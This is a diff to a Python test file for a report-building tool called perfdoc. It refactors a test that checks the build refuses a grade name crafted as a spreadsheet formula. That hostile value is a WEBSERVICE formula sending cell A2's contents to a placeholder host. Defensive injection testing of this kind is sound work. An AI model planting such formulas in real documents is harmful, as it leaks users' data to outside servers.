@@ -16,7 +16,7 @@ import zipfile
 from pathlib import Path
 
 import pytest
-from conftest import ROOT, copy_project, digest_tree, run_perfdoc, tiny_png
+from conftest import ROOT, copy_project, digest_tree, run_perfdoc, tiny_png, use_layout
 
 from perfdoc.sources.layout import LAYOUT_DIR
 
@@ -624,11 +624,7 @@ def test_a_grade_name_cannot_become_a_formula(world):
     before = snapshot(project, outside)
     layout = (LAYOUT_DIR / "jiangsu-2020.toml").read_text(encoding="utf-8")
     hostile = '良"&WEBSERVICE("http://example.invalid/?"&A2)&"'
-    (project / "content" / "mine.toml").write_text(
-        layout.replace('name = "良"', "name = '" + hostile + "'"), encoding="utf-8")
-    facts = project / "content" / "report.md"
-    facts.write_text(facts.read_text(encoding="utf-8")
-                     .replace("layout: jiangsu-2020", "layout: content/mine.toml"), encoding="utf-8")
+    use_layout(project, layout.replace('name = "良"', "name = '" + hostile + "'"))
     done = run_perfdoc("build", str(project))
     assert_refused(done, project, outside, before, "PD003", "content/report.md")
     assert "scoring.grades[2].name" in done.stdout
